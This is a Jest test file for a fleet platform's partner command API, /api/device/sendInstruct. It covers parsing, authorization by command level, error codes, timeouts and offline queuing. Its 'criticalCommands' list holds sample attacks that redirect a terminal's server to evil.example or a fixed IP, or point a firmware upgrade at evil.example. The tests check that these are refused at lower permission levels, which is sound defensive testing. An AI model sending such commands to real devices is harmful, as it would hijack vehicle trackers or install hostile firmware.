import { createHash, randomBytes } from 'node:crypto';
import {
  authorizePartnerCommand,
  commandSent,
  commandSentSubject,
  type DeviceCommand,
  findPartnerChannel,
  type IncomingCommand,
  isCommandAllowed,
  type Outcome,
  type PartnerCommandLevel,
  publish,
  queuePartnerCommand,
  sendPartnerCommand,
  serve,
  serveUseCase,
  verifyPartner,
} from '@fleet/bus';
import { encodeBody, resourceList } from '@fleet/jt808';
import { waitFor } from '@fleet/testing';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { createOutcome, DeviceApiHarness, randomImei } from '../testing/harness.ts';

// Real servers on a machine that may be busy.
jest.setTimeout(60_000);

const token = `pt_${randomBytes(32).toString('base64url')}`;
const hash = (text: string): string => createHash('sha256').update(text).digest('hex');

let harness: DeviceApiHarness;
let api: Awaited<ReturnType<DeviceApiHarness['startService']>>;
/** Numbers that the partner may not command. */
const foreign = new Set<string>();
/** Commands that the partner may send: all, unless a test restricts them. */
const levels = new Map<string, PartnerCommandLevel>();
const admitted: { imei: string; proNo: number }[] = [];
const queued: { imei: string; type: string; params: unknown }[] = [];
/** Devices of other partners, and the responses of their servers. */
const partnerDevices = new Map<string, (command: DeviceCommand) => Outcome | Promise<Outcome>>();

beforeAll(async () => {
  harness = await DeviceApiHarness.open({ platform: true });
  const options = { queue: 'platform-api', onError: () => undefined };
  serve(harness.bus, verifyPartner, options, async ({ tokenSha256, address }) =>
    tokenSha256 === hash(token) && address !== ''
      ? { valid: true as const, partnerId: 7, accountId: 3 }
      : { valid: false as const },
  );
  serve(
    harness.bus,
    authorizePartnerCommand,
    options,
    async ({ partnerId, accountId, imei, proNo, isCritical = true }) => {
      expect({ partnerId, accountId }).toEqual({ partnerId: 7, accountId: 3 });
      if (foreign.has(imei)) return { isAdmitted: false };
      if (!isCommandAllowed(levels.get(imei) ?? 'critical', isCritical))
        return { isAdmitted: false, isAboveLevel: true };
      admitted.push({ imei, proNo });
      return { isAdmitted: true };
    },
  );
  serveUseCase(harness.bus, queuePartnerCommand, options, async ({ imei, type, params }) => {
    queued.push({ imei, type, params });
    return { commandId: 'a'.repeat(24) };
  });
  serve(harness.bus, findPartnerChannel, options, async ({ imei }) => ({ hasChannel: partnerDevices.has(imei) }));
  serve(harness.bus, sendPartnerCommand, options, async ({ imei, command }) => {
    const executeCommand = partnerDevices.get(imei);
    return executeCommand === undefined ? { kind: 'noPartner' as const } : await executeCommand(command);
  });
  await harness.bus.nc.flush();
  api = await harness.startService({ PARTNER_COMMAND_ENABLED: 'true' });
});
afterAll(() => harness.close());

const path = '/api/device/sendInstruct';

interface Reply {
  readonly status: number;
  readonly body: { code: number; msg: string; data: Record<string, unknown> | null; [field: string]: unknown };
}

async function post(body: string, headers: Record<string, string>, base = api.base): Promise<Reply> {
  const response = await fetch(base + path, { method: 'POST', body, headers });
  return { status: response.status, body: (await response.json()) as Reply['body'] };
}

const form = (fields: Record<string, string>, base?: string): Promise<Reply> =>
  post(new URLSearchParams(fields).toString(), { 'content-type': 'application/x-www-form-urlencoded' }, base);

/** Sends a command as a client of the hub does. */
const send = (imei: string, proNo: number, content: unknown, more: Record<string, string> = {}): Promise<Reply> =>
  form({
    deviceImei: imei,
    cmdContent: typeof content === 'string' ? content : JSON.stringify(content),
    proNo: String(proNo),
    cmdType: 'normallns',
    serverFlagId: '0',
    requestId: '42',
    platform: 'web',
    language: 'en',
    token,
    offlineFlag: 'false',
    timeOut: '30',
    sync: 'true',
    ...more,
  });

const span = { beginTime: '260801100000', endTime: '260801110000' };

describe('POST /api/device/sendInstruct', () => {
  it.each<[proNo: number, content: unknown, command: object]>([
    [128, 'Hello', { kind: 'sendText', text: 'Hello', textType: null, options: null }],
    [33_536, '你好', { kind: 'sendText', text: '你好' }],
    [33_029, { command: 4 }, { kind: 'terminalControl', command: 4, parameters: null }],
    [33_029, { cmd: '2', parameters: '1' }, { kind: 'terminalControl', command: 2, parameters: '1' }],
    [
      33_027,
      { parameters: [{ id: 1, value: 30 }] },
      { kind: 'setParameters', parameters: [{ id: 1, valueHex: '0000001e' }] },
    ],
    [
      33_027,
      { paramCount: '2', '1': '30', '19': 'host.example' },
      {
        kind: 'setParameters',
        parameters: [
          { id: 1, valueHex: '0000001e' },
          { id: 19, valueHex: Buffer.from('host.example').toString('hex') },
        ],
      },
    ],
    [34_817, { channel: 2, cmd: '3' }, { kind: 'takePictures', channel: 2, count: 3, isStored: false, quality: 5 }],
    [
      37_121,
      { channel: '1', dataType: '1', codeStreamType: '1', videoIP: '', videoTCPPort: '', videoUDPPort: '' },
      { kind: 'startLive', channel: 1, dataType: 1, streamType: 1, server: 'media.fleet.example', udpPort: 0 },
    ],
    [
      37_121,
      { channel: 2, videoIP: '192.0.2.7', videoTCPPort: '10002', videoUDPPort: '0' },
      { kind: 'startLive', channel: 2, server: '192.0.2.7', tcpPort: 10_002, udpPort: 0 },
    ],
    [
      37_122,
      { channel: 1, cmd: '1', dataType: '0', codeStreamType: 1 },
      { kind: 'controlLive', channel: 1, control: 1, closeType: 0, streamType: 1 },
    ],
    [
      37_377,
      {
        channel: '1',
        ...span,
        playMethod: '1',
        forwardRewind: '3',
        resourceType: '0',
        codeType: '1',
        storageType: '1',
      },
      {
        kind: 'startPlayback',
        channel: 1,
        startTime: '260801100000',
        endTime: '260801110000',
        playbackMode: 1,
        speed: 3,
        mediaType: 0,
        streamType: 1,
        storageType: 1,
      },
    ],
    [
      37_378,
      { channel: 1, playCtrl: 5, forwardRewind: 0, beginTime: '260801103000' },
      { kind: 'controlPlayback', channel: 1, control: 5, speed: 0, seekTime: '260801103000' },
    ],
    [
      37_378,
      { channel: 1, playback_control: 1, beginTime: '' },
      { kind: 'controlPlayback', channel: 1, control: 1, speed: 0, seekTime: null },
    ],
    [
      37_382,
      { channel: 1, ...span, serverAddress: 'ftp.partner.example', userName: 'u', password: 'p', fileUploadPath: '/a' },
      { kind: 'requestUpload', server: 'ftp.partner.example', port: 21, username: 'u', password: 'p', path: '/a' },
    ],
  ])('%i %j is sent to the terminal as by the Device API', async (proNo, content, command) => {
    const messageId = proNo === 128 ? 0x8300 : proNo;
    const imei = await harness.connectDevice(() => createOutcome(messageId));
    expect(await send(imei, proNo, content)).toMatchObject({
      status: 200,
      body: { code: 0, msg: 'success', data: { result: 'success', _code: '100', _imei: imei, _proNo: proNo } },
    });
    expect(harness.findCommands(imei).map((each) => each.command)).toEqual([expect.objectContaining(command)]);
    expect(admitted).toContainEqual({ imei, proNo });
  });

  it('37381 returns the recordings', async () => {
    const item = { channel: 1, alarmFlags: 0n, mediaType: 0, streamType: 1, storageType: 1, fileSize: 1000 };
    const times = { startTime: '2026-08-01T10:00:00', endTime: '2026-08-01T10:05:00' };
    const list = { replySerial: 1, total: 1, items: [{ ...item, ...times }] };
    const bodyBase64 = encodeBody(resourceList, list as never, '2019').toString('base64');
    const message = { id: 0x1205, edition: '2019' as const, bodyBase64 };
    const response = { commandMessageId: 0x9205, commandSerialNo: 1, result: null, message };
    const imei = await harness.connectDevice(() => ({ kind: 'answered', answer: response }));
    const { body } = await send(imei, 37_381, {
      channel: 1,
      start_time: '2026-08-01T02:00:00Z',
      endTime: '260801110000',
    });
    expect(body).toMatchObject({ code: 0, data: { result: 'success', total_resources: 1 } });
    expect(body.data?.['resources']).toEqual([
      expect.objectContaining({ playback_start_time: '2026-08-01T10:00:00+08:00', file_size: 1000 }),
    ]);
    expect(JSON.parse(String(body.data?.['_content']))).toMatchObject({ total_resources: 1 });
    expect(harness.findCommands(imei)[0]?.command).toMatchObject({
      startTime: '260801100000',
      endTime: '260801110000',
    });
  });

  it.each<[string, Outcome, number, string]>([
    ['not connected', { kind: 'notConnected' }, 300, '300'],
    ['silent', { kind: 'timedOut' }, 301, '600'],
    ['unreadable', { kind: 'unreadable', detail: 'body cut' }, 302, '302'],
    ['refused by the device', createOutcome(0x8300, 1), 302, '302'],
    ['not supported by the device', createOutcome(0x8300, 3), 302, '302'],
  ])('returns with status 200 a code for a command that was %s', async (_case, outcome, code, inner) => {
    const imei = await harness.connectDevice(() => outcome);
    expect(await send(imei, 33_536, 'Hello')).toMatchObject({
      status: 200,
      body: { code, data: { _code: inner, _requestId: '42' } },
    });
  });

  it('treats a device of another account as offline, and sends it nothing', async () => {
    const foreignImei = await harness.connectDevice(() => createOutcome(0x8300));
    foreign.add(foreignImei);
    const [toForeign, toUnknown] = [
      await send(foreignImei, 33_536, 'Hello'),
      await send(randomImei(), 33_536, 'Hello'),
    ];
    const normalize = ({ status, body }: Reply) => ({
      status,
      code: body.code,
      msg: body.msg,
      keys: Object.keys(body.data ?? {}),
    });
    expect(normalize(toForeign)).toEqual(normalize(toUnknown));
    expect(toForeign.body.code).toBe(300);
    expect(harness.findCommands(foreignImei)).toEqual([]);
  });

  const standardCommands: [number, unknown][] = [
    [128, 'Please call the dispatcher.'],
    [33_536, 'Hello'],
    [33_027, { '1': '30' }],
    [33_029, { command: 4 }],
    [34_817, { channel: 1 }],
    [37_122, { channel: 1, cmd: 1 }],
    [37_378, { channel: 1, playCtrl: 1 }],
  ];
  const criticalCommands: [number, unknown][] = [
    [128, 'SERVER,0,evil.example,7000,0#'],
    [33_536, '<SPBSJ*P:BSJGPS*T:203.0.113.9,7000>'],
    [33_027, { '1': '30', '19': 'evil.example' }],
    [33_027, { parameters: [{ id: 0x10, value_hex: '61' }] }],
    [33_027, { '24': '7000' }],
    [33_029, { command: 1, parameters: 'http://evil.example/firmware' }],
    [33_029, { cmd: '2', parameters: '1' }],
    [33_029, { command: 5 }],
  ];

  it.each(standardCommands)('sends %i %j at the level standard', async (proNo, content) => {
    const imei = await harness.connectDevice(() => createOutcome(proNo === 128 ? 0x8300 : proNo));
    levels.set(imei, 'standard');
    expect(await send(imei, proNo, content)).toMatchObject({ status: 200, body: { code: 0 } });
    expect(harness.findCommands(imei)).toHaveLength(1);
  });

  it.each([
    ...criticalCommands.map(([proNo, content]) => ['standard', proNo, content] as const),
    ...[...standardCommands, ...criticalCommands].map(([proNo, content]) => ['none', proNo, content] as const),
  ])('rejects at the level %s %i %j with 302, and sends and queues nothing', async (level, proNo, content) => {
    const [online, offline] = [await harness.connectDevice(() => createOutcome(0x8300)), randomImei()];
    for (const imei of [online, offline])
      for (const more of [{}, { sync: 'false' }, { offlineFlag: 'true' }]) {
        levels.set(imei, level);
        expect(await send(imei, proNo, content, more)).toMatchObject({
          status: 403,
          body: { code: 302, data: null, status: 403, msg: expect.stringContaining('command_level') },
        });
      }
    expect(harness.findCommands(online)).toEqual([]);
    expect(queued.filter(({ imei }) => imei === offline)).toEqual([]);
  });

  it.each(criticalCommands)('sends %i %j at the level critical', async (proNo, content) => {
    const imei = await harness.connectDevice(() => createOutcome(proNo === 128 ? 0x8300 : proNo));
    levels.set(imei, 'critical');
    expect(await send(imei, proNo, content)).toMatchObject({ status: 200, body: { code: 0 } });
    expect(harness.findCommands(imei)).toHaveLength(1);
  });

  it.each<[string, Record<string, string>]>([
    ['without a number', { deviceImei: '' }],
    ['with an invalid number', { deviceImei: '12ab' }],
    ['with a number of zeros', { deviceImei: '000000000000' }],
    ['without a command', { proNo: '' }],
    ['with an unknown command', { proNo: '37383' }],
    ['with a command that is not a number', { proNo: '0x8300' }],
    ['without a text', { cmdContent: '' }],
    ['with a text that GBK lacks', { cmdContent: '\u{1F600}' }],
    ['with a timeout of 0', { timeOut: '0' }],
    ['with a timeout that is not a number', { timeOut: 'soon' }],
    ['with an unknown flag', { sync: 'maybe' }],
    ['with an unknown offline flag', { offlineFlag: '2' }],
    ['with content that is not JSON', { proNo: '37121', cmdContent: 'channel=1' }],
    ['with JSON that is not an object', { proNo: '37121', cmdContent: '[]' }],
    ['without a channel', { proNo: '37121', cmdContent: '{}' }],
    ['with an invalid channel', { proNo: '37121', cmdContent: '{"channel":"x"}' }],
    [
      'with two names of different values',
      { proNo: '37122', cmdContent: '{"channel":1,"cmd":1,"ctrl_instruction":2}' },
    ],
    [
      'with an invalid time',
      { proNo: '37381', cmdContent: '{"channel":1,"beginTime":"261301100000","endTime":"260801110000"}' },
    ],
    [
      'with times in the wrong order',
      { proNo: '37381', cmdContent: '{"channel":1,"beginTime":"260801110000","endTime":"260801100000"}' },
    ],
    ['without a parameter', { proNo: '33027', cmdContent: '{"paramCount":"0"}' }],
    ['with a parameter that cannot be sent', { proNo: '33027', cmdContent: '{"1":"often"}' }],
  ])('returns 1001 for a command %s', async (_case, fields) => {
    const imei = await harness.connectDevice(() => createOutcome(0x8300));
    const { status, body } = await send(imei, 33_536, 'Hello', fields);
    expect({ status, body }).toMatchObject({ status: 400, body: { code: 1001, data: null, status: 400 } });
    expect(body.msg).toMatch(/^The field .+\.$|^The body field .+\.$|^The .+\.$/);
    expect(harness.findCommands(imei)).toEqual([]);
  });

  it('returns 1004 without a valid token, whatever else is wrong', async () => {
    const imei = await harness.connectDevice(() => createOutcome(0x8300));
    for (const wrong of ['', 'pt_wrong', 'x'.repeat(300)])
      expect(await send(imei, 33_536, 'Hello', { token: wrong })).toMatchObject({ status: 401, body: { code: 1004 } });
    expect(await form({})).toMatchObject({ status: 401, body: { code: 1004 } });
    expect(harness.findCommands(imei)).toEqual([]);
  });

  it('accepts JSON, with numbers, flags and an object as content', async () => {
    const imei = await harness.connectDevice(() => createOutcome(0x8105));
    const fields = { deviceImei: imei, proNo: 33_029, cmdContent: { command: 4 }, timeOut: 5, sync: true, token };
    const json = { 'content-type': 'application/json' };
    expect(await post(JSON.stringify(fields), json)).toMatchObject({ status: 200, body: { code: 0 } });
    expect(await post(JSON.stringify({ ...fields, proNo: null }), json)).toMatchObject({ body: { code: 1001 } });
    expect(await post('{"token":', json)).toMatchObject({ status: 400, body: { code: 1001 } });
    expect(await post('[]', json)).toMatchObject({ status: 400, body: { code: 1001 } });
    expect(await post(JSON.stringify({ ...fields, filling: 'x'.repeat(20_000) }), json)).toMatchObject({
      status: 413,
      body: { code: 1001 },
    });
    expect(await post(`token=${token}&token=${token}`, {})).toMatchObject({ status: 400, body: { code: 1001 } });
  });

  it('waits for the device for timeOut seconds', async () => {
    const imei = await harness.connectDevice(() => new Promise<Outcome>(() => undefined));
    const startedAtMs = performance.now();
    expect(await send(imei, 33_536, 'Hello', { timeOut: '1' })).toMatchObject({ status: 200, body: { code: 301 } });
    expect(performance.now() - startedAtMs).toBeGreaterThanOrEqual(950);
  });

  it('responds with sync=false as soon as the frame is written', async () => {
    let finish: ((outcome: Outcome) => void) | undefined;
    let got: IncomingCommand | undefined;
    const imei = await harness.connectDevice((command) => {
      got = command;
      return new Promise<Outcome>((resolve) => {
        finish = resolve;
      });
    });
    const reply = send(imei, 33_536, 'Hello', { sync: 'false' });
    await waitFor(() => got !== undefined);
    const sent = { imei, commandId: got?.commandId ?? '', messageId: 0x8300, serialNo: 1 };
    publish(harness.bus, commandSent, { ...sent, commandId: 'another' }, commandSentSubject(imei));
    publish(harness.bus, commandSent, sent, commandSentSubject(imei));
    expect(await reply).toMatchObject({ status: 200, body: { code: 0, data: { result: 'success' } } });
    finish?.(createOutcome(0x8300, 1));
    // Known results are returned without a write to the socket.
    expect(await send(randomImei(), 33_536, 'Hello', { sync: 'false' })).toMatchObject({ body: { code: 300 } });
  });

  it('queues a command for a disconnected device if offlineFlag is set', async () => {
    const imei = randomImei();
    expect(await send(imei, 33_536, 'Hello', { offlineFlag: 'true' })).toMatchObject({
      status: 200,
      body: { code: 0, data: { result: 'queued', command_id: 'a'.repeat(24), _code: '300' } },
    });
    expect(await send(imei, 37_381, { channel: 1, ...span }, { offlineFlag: '1' })).toMatchObject({
      body: { code: 0 },
    });
    expect(queued.filter((each) => each.imei === imei)).toEqual([
      { imei, type: 'text', params: { text: 'Hello' } },
      {
        imei,
        type: 'resource_list',
        params: expect.objectContaining({ start_time: '2026-08-01T02:00:00.000Z', resource_type: 3 }),
      },
    ]);
    expect(await send(imei, 37_121, { channel: 1 }, { offlineFlag: 'true' })).toMatchObject({ body: { code: 300 } });
  });

  it('has limits by device and by partner, and by address for invalid tokens', async () => {
    const narrow = await harness.startService({
      PARTNER_COMMAND_ENABLED: 'true',
      RATE_LIMIT_COMMANDS_BURST: '1',
      RATE_LIMIT_COMMANDS_PER_MINUTE: '1',
    });
    const imei = await harness.connectDevice(() => createOutcome(0x8300));
    const fields = { deviceImei: imei, proNo: '128', cmdContent: 'Hello', token };
    expect(await form(fields, narrow.base)).toMatchObject({ status: 200, body: { code: 0 } });
    expect(await form(fields, narrow.base)).toMatchObject({ status: 429, body: { code: 1006 } });
  });

  it('is 404 unless it is enabled', async () => {
    const closed = await harness.startService();
    expect(await form({ token }, closed.base)).toMatchObject({ status: 404, body: { status: 404 } });
    const response = await fetch(api.base + path);
    expect(response.status).toBe(405);
  });
});

describe("a partner's device", () => {
  const text = (imei: string) =>
    api.get(`/send-text?imei=${imei}`, { method: 'POST', body: JSON.stringify({ text: 'Hello' }) });

  it.each<[Outcome, number]>([
    [createOutcome(0x8300), 200],
    [{ kind: 'notConnected' }, 404],
    [{ kind: 'timedOut' }, 504],
    [{ kind: 'unreadable', detail: "the partner's server returned code 302" }, 502],
    [{ kind: 'refused', detail: 'the command channel of the partner does not support this command' }, 400],
  ])('is commanded by its partner without a session: %j is %i', async (outcome, status) => {
    const imei = randomImei();
    const commands: DeviceCommand[] = [];
    partnerDevices.set(imei, (command) => {
      commands.push(command);
      return outcome;
    });
    expect(await text(imei)).toMatchObject({ status });
    expect(commands).toEqual([expect.objectContaining({ kind: 'sendText', text: 'Hello' })]);
  });

  it('is commanded by its session if it has one', async () => {
    const imei = await harness.connectDevice(() => createOutcome(0x8300));
    partnerDevices.set(imei, () => ({ kind: 'timedOut' }));
    expect(await text(imei)).toMatchObject({ status: 200 });
  });
});
